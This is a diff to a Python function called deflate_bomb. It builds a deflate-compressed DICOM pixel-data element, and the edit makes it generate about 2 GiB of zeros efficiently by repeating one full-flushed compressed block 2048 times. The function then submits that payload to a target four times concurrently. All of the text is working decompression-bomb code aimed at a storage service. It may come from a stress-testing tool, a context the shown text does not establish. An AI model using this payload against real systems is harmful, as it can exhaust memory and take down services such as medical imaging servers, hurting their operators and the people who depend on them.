@@ -146,9 +146,9 @@ async def deflate_bomb(target: Target) -> None:
     packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
     pixels = struct.pack("<HH2sHI", 0x7FE0, 0x10, b"OB", 0, 2**31)
     data = packer.compress(_element(0x0020, 0x000D, b"UI", new_uid()) + pixels)
-    zeros = bytes(1 << 20)
-    for _ in range(2048):
-        data += packer.compress(zeros)
+    data += packer.flush(zlib.Z_FULL_FLUSH)
+    # nothing refers to what is before a full flush, so that one block can be had as often as wanted
+    data += (packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)) * 2048
     data += packer.flush()
     await asyncio.gather(*(_store(target, DEFLATED, data) for _ in range(4)))
 
